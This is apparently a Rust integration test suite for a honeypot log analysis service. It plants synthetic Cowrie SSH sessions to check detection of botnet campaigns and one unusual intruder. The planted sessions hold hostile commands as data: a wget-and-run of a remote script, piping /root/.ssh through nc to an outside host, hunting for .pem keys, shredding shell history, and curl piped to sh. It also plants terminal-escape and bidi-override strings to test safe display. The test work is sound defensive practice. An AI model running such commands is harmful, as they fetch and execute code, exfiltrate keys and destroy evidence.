//! The analyses as jobs and on the command line, over a log with planted findings.

use std::{
    fmt::Write as _,
    fs::{self, OpenOptions},
    io::Write as _,
    path::PathBuf,
    time::Instant,
};

use serde_json::Value;

use crate::{
    harness::{Hub, Process, eventually},
    office::Office,
};

/// Start of the log: a midnight.
const BEGIN: i64 = 1_699_920_000;
const DAY: i64 = 86_400;
/// Days of the log, and ordinary sessions per day.
const DAYS: i64 = 4;
const DAILY: i64 = 150;
/// Half a day after the end of the third day: three whole days and a part of one.
const UNTIL: &str = "2023-11-17T12:00:00Z";
/// A botnet: number of sources, each with one session a day.
const BOTS: i64 = 6;

/// A log being written, session by session.
struct Log {
    path: PathBuf,
    text: String,
    events: i64,
    sessions: i64,
}

/// The content of a session: logins, commands, and a download if there is one.
struct Script<'a> {
    source: String,
    client: &'a str,
    logins: Vec<(String, String)>,
    commands: Vec<String>,
    download: Option<&'a str>,
}

impl Log {
    fn new(path: PathBuf) -> Self {
        Self { path, text: String::new(), events: 0, sessions: 0 }
    }

    fn event(&mut self, session: i64, at: i64, source: &str, fields: Value) {
        let mut line = fields;
        line["session"] = format!("{session:012x}").into();
        line["src_ip"] = source.into();
        line["timestamp"] = chrono::DateTime::from_timestamp(at, 0)
            .unwrap()
            .format("%Y-%m-%dT%H:%M:%S.000000Z")
            .to_string()
            .into();
        // Writing to a string does not fail.
        writeln!(self.text, "{line}").unwrap();
        self.events += 1;
    }

    /// Writes a session that begins at `at`. Returns its number.
    fn session(&mut self, at: i64, script: &Script<'_>) -> i64 {
        let n = self.sessions;
        self.sessions += 1;
        let mut second = at;
        let mut event = |this: &mut Self, fields: Value| {
            this.event(n, second, &script.source, fields);
            second += 1;
        };
        event(
            self,
            serde_json::json!({ "eventid": "cowrie.session.connect", "src_port": 4_000 + n % 1_000, "dst_port": 2222, "protocol": "ssh" }),
        );
        event(
            self,
            serde_json::json!({ "eventid": "cowrie.client.version", "version": format!("SSH-2.0-{}", script.client) }),
        );
        event(
            self,
            serde_json::json!({ "eventid": "cowrie.client.kex", "hassh": format!("{:032x}", script.client.len()) }),
        );
        for (m, (username, password)) in script.logins.iter().enumerate() {
            let id = if m + 1 == script.logins.len() && !script.commands.is_empty() {
                "cowrie.login.success"
            } else {
                "cowrie.login.failed"
            };
            event(self, serde_json::json!({ "eventid": id, "username": username, "password": password }));
        }
        for command in &script.commands {
            event(self, serde_json::json!({ "eventid": "cowrie.command.input", "input": command }));
        }
        if let Some(url) = script.download {
            event(
                self,
                serde_json::json!({ "eventid": "cowrie.session.file_download", "url": url, "shasum": format!("{:064x}", url.len()) }),
            );
        }
        let events = 3 + script.logins.len() + script.commands.len() + usize::from(script.download.is_some());
        event(self, serde_json::json!({ "eventid": "cowrie.session.closed", "duration": events }));
        n
    }

    /// Writes ordinary days (scanners that guess, and three kinds of commands), a botnet, and on the third
    /// day one session that does what no other does.
    fn fill(&mut self) {
        for day in 0..DAYS {
            for n in 0..DAILY {
                let at = BEGIN + day * DAY + n * DAY / DAILY;
                let commands = match n % 5 {
                    0 => vec!["uname -a".to_owned(), "exit".to_owned()],
                    1 => vec![
                        "cat /proc/cpuinfo | grep name | wc -l".to_owned(),
                        "free -m".to_owned(),
                        "uptime".to_owned(),
                    ],
                    2 => vec!["echo ok".to_owned()],
                    _ => Vec::new(),
                };
                let source = format!("198.51.{}.{}", n % 100, (n * 7 + day * 31) % 250 + 1);
                let logins = (0..1 + n % 3)
                    .map(|m| ("root".to_owned(), format!("pass{}", (n * 13 + m * 7 + day) % 90)))
                    .collect();
                self.session(
                    at,
                    &Script {
                        source,
                        client: ["Go", "libssh2_1.9.0", "PUTTY"][(n % 3) as usize],
                        logins,
                        commands,
                        download: None,
                    },
                );
            }
            for bot in 0..BOTS {
                let logins = ["hk7%dune-A", "hk7%dune-B", "hk7%dune-C"]
                    .map(|password| ("svc-backup".to_owned(), password.to_owned()))
                    .to_vec();
                let commands =
                    ["cd /dev/shm; wget http://203.0.113.66/k.sh; sh k.sh", "crontab -l | grep k.sh"]
                        .map(str::to_owned)
                        .to_vec();
                let (source, at) =
                    (format!("203.0.113.{}", bot * 17 + 5), BEGIN + day * DAY + 3_600 * (bot + 2));
                self.session(
                    at,
                    &Script {
                        source,
                        client: "libssh_0.9.6",
                        logins,
                        commands,
                        download: Some("http://203.0.113.66/k.sh"),
                    },
                );
            }
        }
        let commands = [
            "dmidecode | grep -i vendor",
            "find / -name '*.pem' -newer /etc/hostname 2>/dev/null",
            "tar czf - /root/.ssh | base64 | nc 192.0.2.77 4443",
            "shred -u ~/.bash_history; kill -9 $$",
        ];
        let logins = vec![("oracle".to_owned(), "Welcome#2019-x".to_owned())];
        let commands = commands.map(str::to_owned).to_vec();
        self.session(
            BEGIN + 2 * DAY + 40_000,
            &Script { source: "192.0.2.77".into(), client: "OpenSSH_9.3", logins, commands, download: None },
        );
    }

    /// Appends the buffered text to the file.
    fn flush(&mut self) {
        let mut file = OpenOptions::new().create(true).append(true).open(&self.path).unwrap();
        file.write_all(std::mem::take(&mut self.text).as_bytes()).unwrap();
    }
}

/// A hub with the log in its database, a coordinator, and a worker.
struct Site {
    log: Log,
    _roles: Vec<Process>,
}

impl Site {
    fn load(hub: &Hub, fill: impl FnOnce(&mut Log)) -> Self {
        let mut log = Log::new(hub.dir.path().join("cowrie.json"));
        fill(&mut log);
        log.flush();
        let roles = vec![hub.processor(&[]), hub.loader(&log.path)];
        hub.wait_for_events(log.events);
        hub.wait_for_receipts(&log.path);
        assert_eq!(hub.count("select count(*) from session_features"), log.sessions);
        Self { log, _roles: roles }
    }
}

/// Submits an analysis and waits for its result.
fn analysed(office: &Office, job_type: &str, more: &[&str]) -> Value {
    let until = format!("until={UNTIL}");
    let window = if job_type == "longtail_analysis" { "time_window=84h" } else { "time_window=4d" };
    let mut arguments = vec![job_type, "--param", &until, "--param", window];
    more.iter().for_each(|parameter| arguments.extend(["--param", parameter]));
    result(office, &office.submit(&arguments))
}

fn result(office: &Office, job: &str) -> Value {
    eventually("the analysis has ended", || {
        !matches!(office.state(job).as_str(), "queued" | "in_progress" | "retrying")
    });
    let shown = office.show(job);
    assert_eq!(shown["status"]["state"], "completed", "{}", shown["status"]);
    shown["result"].clone()
}

fn number(result: &Value, name: &str) -> i64 {
    result[name].as_i64().unwrap_or_else(|| panic!("{name}: {}", result[name]))
}

#[tokio::test(flavor = "multi_thread")]
async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
    let hub = Hub::start().await;
    let mut site = Site::load(&hub, Log::fill);
    let (_coordinator, office) = Office::open(&hub, "coordinator.err", &[]);
    let _worker = office.worker("w", &["--queues", "longtail,snowshoe,botnet", "--concurrency", "2"]);
    let daily = DAILY + BOTS;

    // The first run reads everything. Its findings are stored in the table and published on FINDINGS.
    let first = analysed(&office, "longtail_analysis", &[]);
    assert_eq!(first["analysis_type"], "full");
    let sessions = number(&first, "sessions");
    assert_eq!((number(&first, "new_sessions"), number(&first, "cached_sessions")), (sessions, 0));
    assert!(sessions > 3 * daily && sessions < 4 * daily, "{sessions}");
    let found = number(&first, "findings_total");
    assert!(found > 0, "{first}");
    assert_eq!(number(&first, "findings_new"), found);
    assert_eq!(hub.count("select count(*) from findings where kind = 'longtail'"), found);
    assert!(hub.count("select count(*) from finding_events") > 0);
    let published = "select count(*) from outbox where subject like 'cowrie.findings.longtail.%' and published_at is not null";
    eventually("all is published", || hub.count(published) == found);
    let odd = "select count(*) from findings f join finding_sessions using (finding_id) where kind = 'longtail' and '192.0.2.77' = any(sources)";
    assert!(hub.count(odd) > 0, "nobody noticed the one who is unlike all others");
    let markdown = first["markdown"].as_str().unwrap();
    assert!(markdown.contains("findings in") && markdown.contains("| severity |"), "{markdown}");

    // The second run reads only the part of a day at the end, and finds nothing new.
    assert_eq!(
        hub.psql("select count(*), sum(sessions) from longtail_parts").trim(),
        format!("3|{}", 3 * daily + 1)
    );
    let second = analysed(&office, "longtail_analysis", &[]);
    assert_eq!(second["analysis_type"], "incremental");
    assert_eq!(number(&second, "cached_sessions"), 3 * daily + 1);
    assert_eq!(number(&second, "new_sessions"), sessions - 3 * daily - 1);
    assert_eq!(
        (
            number(&second, "findings_new"),
            number(&second, "findings_updated"),
            number(&second, "findings_unchanged")
        ),
        (0, 0, found)
    );
    assert_eq!(second["findings"], first["findings"]);
    assert_eq!(hub.count("select count(*) from outbox where subject like 'cowrie.findings.%'"), found);
    assert_eq!(hub.count("select count(*) from findings where revision > 1"), 0);

    // A late event of the second day: only that day is read again.
    let before = hub.psql("select from_at, computed_at from longtail_parts order by 1");
    let late = DAILY + BOTS + 3;
    let command = serde_json::json!({ "eventid": "cowrie.command.input", "input": "curl -s http://192.0.2.99/late | sh" });
    site.log.event(late, BEGIN + DAY + 3_000, "198.51.3.1", command);
    site.log.flush();
    hub.wait_for_events(site.log.events);
    let third = analysed(&office, "longtail_analysis", &[]);
    assert_eq!(number(&third, "new_sessions"), number(&second, "new_sessions") + daily);
    let after = hub.psql("select from_at, computed_at from longtail_parts order by 1");
    let changed: Vec<_> = before.lines().zip(after.lines()).map(|(before, after)| before != after).collect();
    assert_eq!(changed, [false, true, false]);

    // A full run gives the same.
    let full = analysed(&office, "longtail_analysis", &["full=true"]);
    assert_eq!((full["analysis_type"].as_str(), number(&full, "cached_sessions")), (Some("full"), 0));
    assert_eq!((number(&full, "findings_new"), number(&full, "findings_updated")), (0, 0));
    assert_eq!(full["findings"], third["findings"]);

    // So does an analysis of the log, and one of the database without a job.
    let analyse = |more: &[&str]| -> Value {
        let out =
            hub.run(&[&["analyse", "longtail", "--since", "84h", "--until", UNTIL, "--json"], more].concat());
        assert!(out.stdout.is_ascii());
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let log = format!("s={}", site.log.path.display());
    let (from_log, from_database) = (analyse(&["--log", &log]), analyse(&[]));
    assert_eq!(from_log["findings"], from_database["findings"]);
    assert_eq!(from_database["findings"].as_array().unwrap().len() as i64, number(&full, "findings_total"));
    assert_eq!(
        hub.count("select count(*) from findings where job_id is null"),
        0,
        "nothing is kept that was not asked for"
    );

    // An analysed data set can be saved and analysed again.
    for (name, source) in [("log.arrow", &["--log", &log][..]), ("database.arrow", &[])] {
        let file = hub.dir.path().join(name).display().to_string();
        assert_eq!(
            analyse(&[source, &["--save", &file]].concat())["findings"],
            from_log["findings"],
            "{name}"
        );
        let again = hub.run(&["analyse", "longtail", "--input", &file, "--json"]);
        let again: Value = serde_json::from_slice(&again.stdout).unwrap();
        assert_eq!(again["findings"], from_log["findings"], "{name}");
    }
    let refused =
        hub.command(&["analyse", "botnet", "--input", site.log.path.to_str().unwrap()]).output().unwrap();
    assert!(
        !refused.status.success()
            && String::from_utf8_lossy(&refused.stderr).contains("cowrie.json: Arrow file"),
        "{refused:?}"
    );

    // The views of the predecessor.
    assert_eq!(
        hub.count(
            "select count(*) from longtail_features where is_valid and cardinality(feature_vector) > 0"
        ),
        site.log.sessions
    );
    assert!(hub.count("select count(*) from longtail_cache_summary where last_updated is not null and sessions_analyzed > 0") >= 3);
    println!("{found} findings of longtail in {sessions} sessions");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_campaign_that_goes_on_is_one_finding_with_revisions() {
    let hub = Hub::start().await;
    let mut site = Site::load(&hub, Log::fill);
    let (_coordinator, office) = Office::open(&hub, "coordinator.err", &[]);
    let _worker = office.worker("w", &["--queues", "snowshoe,botnet", "--concurrency", "1"]);
    let first = analysed(&office, "botnet_coordination", &[]);
    assert!(number(&first, "findings_new") > 0, "{first}");
    let campaign =
        "select finding_id, revision from findings where kind = 'botnet' and '203.0.113.5' = any(sources)";
    let known = hub.psql(campaign);
    assert_eq!(known.lines().count(), 1, "{known}");
    let again = analysed(&office, "botnet_coordination", &[]);
    assert_eq!((number(&again, "findings_new"), number(&again, "findings_updated")), (0, 0), "{again}");
    assert_eq!(
        number(&analysed(&office, "snowshoe_detection", &["min_sources=4"]), "sessions"),
        number(&first, "sessions")
    );

    // No password leaves the database; the table has them.
    let payloads = hub.psql("select payload from outbox where subject like 'cowrie.findings.%'");
    assert!(!payloads.is_empty() && !payloads.contains("hk7%dune"), "{payloads}");
    assert!(!first.to_string().contains("hk7%dune"));

    // A new member: the same campaign is published once more.
    let logins = ["hk7%dune-A", "hk7%dune-B", "hk7%dune-C"]
        .map(|password| ("svc-backup".to_owned(), password.to_owned()))
        .to_vec();
    let commands = ["cd /dev/shm; wget http://203.0.113.66/k.sh; sh k.sh", "crontab -l | grep k.sh"]
        .map(str::to_owned)
        .to_vec();
    let script = Script {
        source: "203.0.113.250".into(),
        client: "libssh_0.9.6",
        logins,
        commands,
        download: Some("http://203.0.113.66/k.sh"),
    };
    site.log.session(BEGIN + 3 * DAY + 20_000, &script);
    site.log.flush();
    hub.wait_for_events(site.log.events);
    let more = analysed(&office, "botnet_coordination", &[]);
    assert_eq!(number(&more, "findings_new"), 0, "{more}");
    assert!(number(&more, "findings_updated") > 0, "{more}");
    let id = known.split('|').next().unwrap();
    assert_eq!(hub.psql(campaign).trim(), format!("{id}|2"));
    eventually("both revisions are published", || {
        hub.count(&format!(
            "select count(*) from outbox where msg_id like 'finding.{id}.%' and published_at is not null"
        )) == 2
    });

    // The command line shows the findings.
    let listed = hub.run(&["findings", "list", "--kind", "botnet", "--json"]);
    let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert!(listed.as_array().unwrap().iter().any(|finding| finding["finding_id"] == id));
    let shown = hub.run(&["findings", "show", &id[..8]]);
    let shown = String::from_utf8_lossy(&shown.stdout).into_owned();
    assert!(shown.contains("203.0.113.250") && shown.contains("revision  2"), "{shown}");
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_sessions_are_analysed_and_shown_safely() {
    let hub = Hub::start().await;
    let fill = |log: &mut Log| {
        log.fill();
        let steering = "\u{1b}]0;owned\u{7}\u{202e}`|<img src=x>\u{0} a".to_owned();
        let many = (0..20_000).map(|n| format!("echo {n}")).collect();
        let long = vec!["A".repeat(900_000), steering.clone(), "\u{1b}[2J".repeat(2_000)];
        for (n, commands) in
            [many, long, vec![String::new()], vec![steering.clone(); 50]].into_iter().enumerate()
        {
            let logins = vec![(steering.clone(), steering.clone()); 3];
            let source = format!("192.0.2.{}", n + 100);
            log.session(
                BEGIN + 2 * DAY + 50_000,
                &Script {
                    source,
                    client: &steering,
                    logins,
                    commands,
                    download: Some("http://x/\u{1b}[31m"),
                },
            );
        }
        let odd = serde_json::json!({ "eventid": "cowrie.session.closed", "duration": "NaN" });
        log.event(999_999, BEGIN + 1_000, "not an address", odd);
        log.sessions += 1;
    };
    let site = Site::load(&hub, fill);
    let (_coordinator, office) = Office::open(&hub, "coordinator.err", &[]);
    let _worker = office.worker("w", &["--queues", "longtail,snowshoe,botnet", "--concurrency", "3"]);
    for job_type in ["longtail_analysis", "snowshoe_detection", "botnet_coordination"] {
        analysed(&office, job_type, &[]);
        let empty = office.submit(&[job_type, "--param", "until=2019-01-01T00:00:00Z"]);
        let empty = result(&office, &empty);
        assert_eq!((number(&empty, "sessions"), number(&empty, "findings_total")), (0, 0));
    }
    eventually("all is published", || {
        hub.count("select count(*) from outbox where published_at is null") == 0
    });
    let log = format!("s={}", site.log.path.display());
    for arguments in [
        &["analyse", "longtail", "--log", &log][..],
        &["analyse", "botnet", "--since", "84h", "--until", UNTIL],
        &["findings", "list"],
    ] {
        let out = hub.run(arguments);
        let shown = String::from_utf8(out.stdout).unwrap();
        assert!(
            shown.chars().all(|c| c == '\n' || !c.is_control() && c != '\u{202e}'),
            "{arguments:?}: {shown}"
        );
    }
}

/// Inserts `daily` sessions a day without logins, with `different` distinct feature vectors.
fn crowd(hub: &Hub, days: i64, daily: i64, different: i64) {
    hub.psql(&format!(
        "insert into sessions (sensor, session, started_at, last_event_at, closed, closed_at, event_count, login_attempts, login_successes, command_count,
            download_count, upload_count, forward_count, bytes, src_ip)
        select 's', lpad(to_hex(n), 12, '0'), at, at + interval '5 s', true, at + interval '5 s', 5, 0, 0, 0, 0, 0, 0, 500, '198.51.100.0'::inet + n % 250
        from generate_series(0, {days}::bigint * {daily} - 1) n, lateral (select timestamptz '2023-11-14 00:00Z' + n * interval '1 day' / {daily} as at) a;
        insert into session_features (sensor, session, version, vector)
        select 's', lpad(to_hex(n), 12, '0'), 1, array(select ((n % {different} * 7919 + i * i * 104729) % 1009 / 1009.0)::real from generate_series(1, 61) i)
        from generate_series(0, {days}::bigint * {daily} - 1) n;
        analyze sessions; analyze session_features"
    ));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_killed_worker_is_replaced_and_goes_on_with_the_days_it_had_read() {
    let hub = Hub::start().await;
    crowd(&hub, 30, 1_000, 100);
    let (_coordinator, office) = Office::open(&hub, "coordinator.err", &[]);
    let first = office.worker("first", &["--queues", "longtail", "--concurrency", "1"]);
    let job = office.submit(&[
        "longtail_analysis",
        "--param",
        "until=2023-12-14T00:00:00Z",
        "--param",
        "time_window=30d",
    ]);
    eventually("some days are read", || hub.count("select count(*) from longtail_parts") >= 3);
    first.kill();
    let read = hub.psql("select from_at, computed_at from longtail_parts order by 1");
    let _second = office.worker("second", &["--queues", "longtail", "--concurrency", "1"]);
    let result = result(&office, &job);
    let attempt = number(&office.show(&job)["status"], "attempt");
    let days = read.lines().count() as i64;
    println!(
        "killed after {days} of 30 days; attempt {attempt} read {} sessions and had {}",
        result["new_sessions"], result["cached_sessions"]
    );
    if days < 30 {
        assert_eq!(attempt, 2);
    }
    assert!(number(&result, "cached_sessions") >= days * 1_000, "{days} days: {result}");
    let now = hub.psql("select from_at, computed_at from longtail_parts order by 1");
    assert!(read.lines().all(|line| now.contains(line)), "a day was read twice");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_running_analysis_is_cancelled_within_a_second_and_its_thread_ends() {
    let hub = Hub::start().await;
    crowd(&hub, 1, 60_000, 60_000);
    let (_coordinator, office) = Office::open(&hub, "coordinator.err", &[]);
    let worker = office.worker("w", &["--queues", "longtail", "--concurrency", "1"]);
    for step in ["reading", "training"] {
        let job = office.submit(&[
            "longtail_analysis",
            "--param",
            "until=2023-11-15T00:00:00Z",
            "--param",
            "full=true",
            "--priority",
            "9",
        ]);
        let mut seen = String::new();
        eventually(step, || {
            let status = office.show(&job)["status"].clone();
            seen = status["current_step"].as_str().unwrap_or_default().to_owned();
            seen.contains(step) || status["state"] == "completed"
        });
        if !seen.contains(step) {
            println!("{step} was over too soon to be seen");
            continue;
        }
        let asked = Instant::now();
        office.command(&["jobs", "cancel", &job]).output().unwrap();
        eventually("cancelled", || matches!(office.state(&job).as_str(), "cancelled" | "completed"));
        println!("{step}: cancelled after {:.2} s", asked.elapsed().as_secs_f64());
        assert_eq!(office.state(&job), "cancelled");
        // Its thread has ended: the process uses almost no CPU in a second.
        eventually("the worker is at rest", || {
            let before = worker.cpu_ticks();
            let since = Instant::now();
            eventually("half a second has passed", || since.elapsed().as_secs_f64() > 0.5);
            worker.cpu_ticks() - before < 20
        });
    }
    assert_eq!(
        fs::read_to_string(hub.dir.path().join("worker.err")).unwrap_or_default().matches("panicked").count(),
        0
    );
}
